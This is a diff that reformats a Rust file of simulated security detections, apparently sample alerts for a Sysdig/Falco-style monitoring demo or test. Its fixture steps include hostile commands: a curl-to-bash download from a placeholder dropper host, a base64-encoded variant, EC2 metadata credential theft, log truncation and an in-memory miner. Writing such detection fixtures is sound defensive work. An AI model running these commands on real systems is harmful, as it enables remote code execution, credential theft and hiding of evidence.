@@ -113,73 +113,25 @@ pub enum Action {
 }
 
 const fn policy(id: u64, name: &'static str, description: &'static str) -> Policy {
-    Policy {
-        id,
-        name,
-        description,
-    }
+    Policy { id, name, description }
 }
 
-const THREAT_INTELLIGENCE: Policy = policy(
-    10_011_702,
-    "Sysdig Runtime Threat Intelligence",
-    "Detections backed by threat intelligence",
-);
-const THREAT_DETECTION: Policy = policy(
-    10_011_703,
-    "Sysdig Runtime Threat Detection",
-    "High-confidence detections of attacker behaviour",
-);
-const NOTABLE: Policy = policy(
-    10_011_701,
-    "Sysdig Runtime Notable Events",
-    "Suspicious but noisy behaviour",
-);
-const MALWARE: Policy = policy(
-    10_012_001,
-    "Sysdig Malware policy",
-    "Known malware is kept from running",
-);
-const DRIFT: Policy = policy(
-    10_012_002,
-    "Sysdig Drift policy",
-    "Programs that are not part of the image",
-);
-const MINING: Policy = policy(
-    10_030_001,
-    "Crypto Mining Detection",
-    "Machine-learning detection of crypto miners",
-);
-const AWS: Policy = policy(
-    10_022_001,
-    "Sysdig AWS Threat Detection",
-    "High-confidence AWS detections",
-);
-const AWS_MODEL: Policy = policy(
-    10_030_002,
-    "Sysdig AWS ML policy",
-    "Machine-learning detection of unusual AWS logins",
-);
-const OKTA_MODEL: Policy = policy(
-    10_030_003,
-    "Sysdig Okta ML policy",
-    "Machine-learning detection of unusual Okta logins",
-);
-const GITHUB: Policy = policy(
-    10_022_003,
-    "Sysdig GitHub policy",
-    "Changes of repositories and organisations",
-);
-const AUDIT: Policy = policy(
-    10_013_001,
-    "K8s audit policy",
-    "Sensitive requests to the Kubernetes API",
-);
-const ADMISSION: Policy = policy(
-    10_014_001,
-    "Admission policy",
-    "Posture of resources at admission",
-);
+const THREAT_INTELLIGENCE: Policy =
+    policy(10_011_702, "Sysdig Runtime Threat Intelligence", "Detections backed by threat intelligence");
+const THREAT_DETECTION: Policy =
+    policy(10_011_703, "Sysdig Runtime Threat Detection", "High-confidence detections of attacker behaviour");
+const NOTABLE: Policy = policy(10_011_701, "Sysdig Runtime Notable Events", "Suspicious but noisy behaviour");
+const MALWARE: Policy = policy(10_012_001, "Sysdig Malware policy", "Known malware is kept from running");
+const DRIFT: Policy = policy(10_012_002, "Sysdig Drift policy", "Programs that are not part of the image");
+const MINING: Policy = policy(10_030_001, "Crypto Mining Detection", "Machine-learning detection of crypto miners");
+const AWS: Policy = policy(10_022_001, "Sysdig AWS Threat Detection", "High-confidence AWS detections");
+const AWS_MODEL: Policy =
+    policy(10_030_002, "Sysdig AWS ML policy", "Machine-learning detection of unusual AWS logins");
+const OKTA_MODEL: Policy =
+    policy(10_030_003, "Sysdig Okta ML policy", "Machine-learning detection of unusual Okta logins");
+const GITHUB: Policy = policy(10_022_003, "Sysdig GitHub policy", "Changes of repositories and organisations");
+const AUDIT: Policy = policy(10_013_001, "K8s audit policy", "Sensitive requests to the Kubernetes API");
+const ADMISSION: Policy = policy(10_014_001, "Admission policy", "Posture of resources at admission");
 const SCANNING: Policy = policy(10_015_001, "Host scan", "Result of a scheduled host scan");
 
 const EXECUTION: &[&str] = &[
@@ -215,28 +167,11 @@ const CREDENTIALS: &[&str] = &[
     "NIST_800-53_IA-5",
     "SOC2_CC6.1",
 ];
-const CLOUD: &[&str] = &[
-    "cloud",
-    "aws",
-    "MITRE",
-    "MITRE_TA0001_initial_access",
-    "NIST_800-53_IA-2(1)",
-    "SOC2_CC6.1",
-    "ISO_27001_A.9.4.2",
-];
-const KUBERNETES: &[&str] = &[
-    "k8s",
-    "MITRE",
-    "MITRE_TA0004_privilege_escalation",
-    "NIST_800-53_AC-6",
-    "SOC2_CC6.3",
-];
+const CLOUD: &[&str] =
+    &["cloud", "aws", "MITRE", "MITRE_TA0001_initial_access", "NIST_800-53_IA-2(1)", "SOC2_CC6.1", "ISO_27001_A.9.4.2"];
+const KUBERNETES: &[&str] = &["k8s", "MITRE", "MITRE_TA0004_privilege_escalation", "NIST_800-53_AC-6", "SOC2_CC6.3"];
 
-const BASH_EXPLOIT: Step = step(
-    "bash",
-    "/bin/bash",
-    "bash -c curl -s http://{dropper}/x | bash",
-);
+const BASH_EXPLOIT: Step = step("bash", "/bin/bash", "bash -c curl -s http://{dropper}/x | bash");
 const BASH_ADMIN: Step = step("bash", "/bin/bash", "bash");
 
 const fn step(name: &'static str, exe: &'static str, cmdline: &'static str) -> Step {
@@ -268,13 +203,7 @@ const fn process(
     tags: &'static [&'static str],
     process: Process,
 ) -> Detection {
-    Detection {
-        rule,
-        policy,
-        severity,
-        kind: Kind::Process(process),
-        tags,
-    }
+    Detection { rule, policy, severity, kind: Kind::Process(process), tags }
 }
 
 const fn other(
@@ -284,13 +213,7 @@ const fn other(
     tags: &'static [&'static str],
     kind: Kind,
 ) -> Detection {
-    Detection {
-        rule,
-        policy,
-        severity,
-        kind,
-        tags,
-    }
+    Detection { rule, policy, severity, kind, tags }
 }
 
 /// The miner starts from memory.
@@ -303,10 +226,7 @@ pub const FILELESS: Detection = process(
         "Fileless execution of a program from memory",
         "execve",
         "memfd:kworkerd",
-        &[
-            BASH_EXPLOIT,
-            step("kworkerd", "memfd:kworkerd", "kworkerd -o {pool}"),
-        ],
+        &[BASH_EXPLOIT, step("kworkerd", "memfd:kworkerd", "kworkerd -o {pool}")],
     ),
 );
 /// The second stage arrives encoded.
@@ -321,11 +241,7 @@ pub const BASE64: Detection = process(
         "<NA>",
         &[
             BASH_EXPLOIT,
-            step(
-                "bash",
-                "/bin/bash",
-                "bash -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3g= | base64 -d | bash",
-            ),
+            step("bash", "/bin/bash", "bash -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3g= | base64 -d | bash"),
         ],
     ),
 );
@@ -339,11 +255,7 @@ pub const BASE64_JOB: Detection = process(
         "A base64-encoded shell script was executed",
         "execve",
         "<NA>",
-        &[step(
-            "sh",
-            "/bin/sh",
-            "sh -c echo cm90YXRlLWxvZ3M= | base64 -d | sh",
-        )],
+        &[step("sh", "/bin/sh", "sh -c echo cm90YXRlLWxvZ3M= | base64 -d | sh")],
     ),
 );
 /// The attacker asks for the node's role.
@@ -356,11 +268,7 @@ pub const METADATA: Detection = process(
         "A container contacted the EC2 instance metadata service",
         "connect",
         "169.254.169.254:80",
-        &[step(
-            "curl",
-            "/usr/bin/curl",
-            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-        )],
+        &[step("curl", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
     ),
 );
 /// The attacker does the same from his shell.
@@ -375,11 +283,7 @@ pub const METADATA_EXPLOIT: Detection = process(
         "169.254.169.254:80",
         &[
             BASH_EXPLOIT,
-            step(
-                "curl",
-                "/usr/bin/curl",
-                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-            ),
+            step("curl", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         ],
     ),
 );
@@ -389,12 +293,7 @@ pub const SHELL_EXPLOIT: Detection = process(
     NOTABLE,
     4,
     EXECUTION,
-    falco(
-        "A shell was started in a container",
-        "execve",
-        "<NA>",
-        &[BASH_EXPLOIT],
-    ),
+    falco("A shell was started in a container", "execve", "<NA>", &[BASH_EXPLOIT]),
 );
 /// Somebody looks around with `kubectl exec`.
 pub const SHELL_ADMIN: Detection = process(
@@ -404,12 +303,7 @@ pub const SHELL_ADMIN: Detection = process(
     EXECUTION,
     Process {
         from_outside: true,
-        ..falco(
-            "A shell was started in a container",
-            "execve",
-            "/dev/pts/0",
-            &[BASH_ADMIN],
-        )
+        ..falco("A shell was started in a container", "execve", "/dev/pts/0", &[BASH_ADMIN])
     },
 );
 /// Log files are emptied.
@@ -425,14 +319,7 @@ pub const CLEAR_LOGS: Detection = process(
             "Log files were emptied",
             "openat",
             "/var/log/app/access.log",
-            &[
-                BASH_ADMIN,
-                step(
-                    "truncate",
-                    "/usr/bin/truncate",
-                    "truncate -s 0 /var/log/app/access.log",
-                ),
-            ],
+            &[BASH_ADMIN, step("truncate", "/usr/bin/truncate", "truncate -s 0 /var/log/app/access.log")],
         )
     },
 );
@@ -469,11 +356,7 @@ pub const MALWARE_BLOCKED: Detection = process(
             "/tmp/.cache/svc-helper",
             &[
                 step("sh", "/bin/sh", "sh -c /tmp/.cache/svc-helper"),
-                step(
-                    "svc-helper",
-                    "/tmp/.cache/svc-helper",
-                    "/tmp/.cache/svc-helper",
-                ),
+                step("svc-helper", "/tmp/.cache/svc-helper", "/tmp/.cache/svc-helper"),
             ],
         )
     },
@@ -494,11 +377,7 @@ pub const DRIFT_HELPER: Detection = process(
             "/tmp/.cache/svc-helper",
             &[
                 step("sh", "/bin/sh", "sh -c /tmp/.cache/svc-helper"),
-                step(
-                    "svc-helper",
-                    "/tmp/.cache/svc-helper",
-                    "/tmp/.cache/svc-helper --install",
-                ),
+                step("svc-helper", "/tmp/.cache/svc-helper", "/tmp/.cache/svc-helper --install"),
             ],
         )
     },
@@ -541,54 +420,25 @@ pub const DRIFT_PACKAGE: Detection = process(
     },
 );
 /// The miner, seen by its behaviour.
-pub const MINER: Detection = other(
-    "",
-    MINING,
-    0,
-    &[],
-    Kind::Miner {
-        command: "kworkerd -o {pool}",
-        exe: "/dev/shm/kworkerd",
-    },
-);
+pub const MINER: Detection =
+    other("", MINING, 0, &[], Kind::Miner { command: "kworkerd -o {pool}", exe: "/dev/shm/kworkerd" });
 /// A console login without a second factor.
 pub const AWS_LOGIN: Detection = other("Console Login Without MFA", AWS, 3, CLOUD, Kind::AwsLogin);
 /// A console login that does not fit the user.
-pub const AWS_LOGIN_MODEL: Detection = other(
-    "Anomalous AWS console login",
-    AWS_MODEL,
-    2,
-    CLOUD,
-    Kind::AwsLoginModel,
-);
+pub const AWS_LOGIN_MODEL: Detection = other("Anomalous AWS console login", AWS_MODEL, 2, CLOUD, Kind::AwsLoginModel);
 /// An Okta login that does not fit the user.
-pub const OKTA_LOGIN_MODEL: Detection = other(
-    "Anomalous Okta login",
-    OKTA_MODEL,
-    3,
-    CLOUD,
-    Kind::OktaLoginModel,
-);
+pub const OKTA_LOGIN_MODEL: Detection = other("Anomalous Okta login", OKTA_MODEL, 3, CLOUD, Kind::OktaLoginModel);
 /// A private repository made public.
 pub const REPOSITORY: Detection = other(
     "Repository made public",
     GITHUB,
     6,
     &["github", "git", "MITRE", "MITRE_TA0010_exfiltration"],
-    Kind::Repository {
-        repository: "deploy-notes",
-    },
+    Kind::Repository { repository: "deploy-notes" },
 );
 /// Somebody becomes administrator of a cluster.
-pub const CLUSTER_ADMIN: Detection = other(
-    "Attach to cluster-admin role",
-    AUDIT,
-    4,
-    KUBERNETES,
-    Kind::Audit {
-        role: "cluster-admin",
-    },
-);
+pub const CLUSTER_ADMIN: Detection =
+    other("Attach to cluster-admin role", AUDIT, 4, KUBERNETES, Kind::Audit { role: "cluster-admin" });
 /// A posture note at admission.
 pub const POSTURE: Detection = other("", ADMISSION, 7, &[], Kind::Admission);
 /// Scanner noise.
